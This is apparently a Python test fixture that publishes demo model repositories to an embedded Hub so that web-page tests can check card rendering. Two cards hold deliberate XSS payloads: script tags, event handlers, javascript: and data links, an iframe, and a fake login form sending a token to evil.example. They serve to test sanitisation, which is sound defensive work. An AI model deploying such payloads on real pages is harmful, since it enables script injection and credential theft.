"""The demo family as the web pages' tests see it: published to an embedded Hub with the real huggingface_hub
client, with the cards and manifests hubpub rendered for it (the golden files of tests/cards), a private
repo, a repo whose card tries every way to run a script, and one whose card uses the HTML model cards use,
with scripts hidden inside it."""

from __future__ import annotations

import json
from pathlib import Path

from huggingface_hub import CommitOperationAdd, HfApi

from hubpub.hub import HubServer, Identity

CARDS = Path(__file__).parent.parent / "cards"
DEMO_TOKEN = "hf_demo_pages_token_0123456789"
EVE_TOKEN = "hf_eve_pages_token_0123456789"
TOKENS = {
    DEMO_TOKEN: Identity(name="demo", writable=frozenset()),
    EVE_TOKEN: Identity(name="eve", writable=frozenset()),
}
W4A16 = "demo/SmolLM2-135M-Instruct-W4A16"
W8A8 = "demo/SmolLM2-135M-Instruct-W8A8"
PRIVATE = "demo/unreleased-W4A16"
HOSTILE = "eve/hostile-card"
BASE_MODEL = "HuggingFaceTB/SmolLM2-135M-Instruct"
PWNED = "data-pwned"
"""The attribute a script in the hostile card would set on <body> if it ran."""
HOSTILE_CARD = f"""---
license: mit
tags: [<script>alert('tag')</script>]
base_model: "javascript:alert('base')"
model-index:
- name: hostile
  results:
  - task: {{type: text-generation}}
    dataset: {{name: "<img src=x onerror=alert(1)>", type: x}}
    metrics: [{{type: acc, value: 0.5}}]
---
# A card that tries to run scripts

<script>document.body.setAttribute('{PWNED}', 'script tag')</script>

<img src="x" onerror="document.body.setAttribute('{PWNED}', 'onerror')">

[a javascript link](javascript:document.body.setAttribute('{PWNED}','javascript link'))

[an entity-encoded javascript link](&#106;avascript:document.body.setAttribute('{PWNED}','entity link'))

[a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

<a href="javascript:document.body.setAttribute('{PWNED}','raw link')">a raw HTML link</a>

| column | payload |
|---|---|
| <script>document.body.setAttribute('{PWNED}','cell')</script> | [cell link](javascript:alert(1)) |

```html"><script>document.body.setAttribute('{PWNED}','fence')</script>
<script>alert(1)</script>
```
"""
RICH = "eve/rich-card"
RICH_CARD = f"""---
license: mit
---
<!-- hubpub:snippet vllm -->
# A card in the HTML that model cards use

<div align="center"><img src="assets/logo.png" alt="the logo" width="120"></div>

<details><summary>Click for <b>details</b></summary>

Hidden **Markdown** inside: press <kbd>Ctrl</kbd>+<kbd>C</kbd>; E = mc<sup>2</sup>, H<sub>2</sub>O.

</details>

<table><tr><th>metric</th><th>value</th></tr>
<tr><td>acc<br>5-shot</td><td><a href="https://huggingface.co/{HOSTILE}">a sibling</a></td></tr></table>

<p align="center">centered <em>text</em> and <a href="https://huggingface.co/{PRIVATE}">a private repo</a></p>

## Hostile HTML inside the allowed tags

<details open ontoggle="document.body.setAttribute('{PWNED}','ontoggle')">
<summary onclick="document.body.setAttribute('{PWNED}','summary click')">Open me</summary>
<img src="x" onerror="document.body.setAttribute('{PWNED}','img in details')">
<script>document.body.setAttribute('{PWNED}','script in details')</script>
</details>

<div style="position:fixed;top:0;left:0;width:100%;height:100%"
     onmouseover="document.body.setAttribute('{PWNED}','hover')">a div that would cover the page</div>

<span><a href="javascript:document.body.setAttribute('{PWNED}','link in span')" target="_blank">a span link</a></span>

<sup><svg onload="document.body.setAttribute('{PWNED}','svg')"></svg>sup text</sup>

<iframe srcdoc="<script>parent.document.body.setAttribute('{PWNED}','iframe')</script>"></iframe>

<form action="https://evil.example/steal"><input name="token"><button>Log in again</button></form>

<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="a data image">

<table><tr><td>
<a href="&#106;avascript:document.body.setAttribute('{PWNED}','table link')">a table link</a>
</td></tr></table>

<style>body {{ display: none }}</style>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<object data="javascript:document.body.setAttribute('{PWNED}','object')"></object>
"""


def publish_demo_family(store: Path) -> None:
    """Fill a Hub store: the two demo variants (tagged v0.1.0), a private variant, and eve's two cards."""
    with HubServer(store, tokens=TOKENS) as server:
        demo = HfApi(endpoint=server.url, token=DEMO_TOKEN)
        for variant, repo_id in (("W4A16", W4A16), ("W8A8", W8A8)):
            demo.create_repo(repo_id)
            demo.create_commit(
                repo_id,
                [
                    _add("README.md", (CARDS / "golden" / f"demo-{variant}.md").read_bytes()),
                    _add("hubpub-manifest.json", (CARDS / "fixtures" / f"demo-{variant}.json").read_bytes()),
                    _add("config.json", json.dumps({"architectures": ["LlamaForCausalLM"]}).encode()),
                    _add("model.safetensors", bytes(range(256)) * 64),
                ],
                commit_message=f"Release {variant} 0.1.0",
            )
            demo.create_tag(repo_id, tag="v0.1.0")
        demo.create_repo(PRIVATE, private=True)
        demo.upload_file(
            path_or_fileobj=b"---\nlicense: apache-2.0\n---\n# Not released yet\n\nA secret card.\n",
            path_in_repo="README.md",
            repo_id=PRIVATE,
        )
        eve = HfApi(endpoint=server.url, token=EVE_TOKEN)
        eve.create_repo(HOSTILE)
        eve.upload_file(path_or_fileobj=HOSTILE_CARD.encode(), path_in_repo="README.md", repo_id=HOSTILE)
        eve.create_repo(RICH)
        eve.upload_file(path_or_fileobj=RICH_CARD.encode(), path_in_repo="README.md", repo_id=RICH)


def _add(path: str, content: bytes) -> CommitOperationAdd:
    return CommitOperationAdd(path_in_repo=path, path_or_fileobj=content)
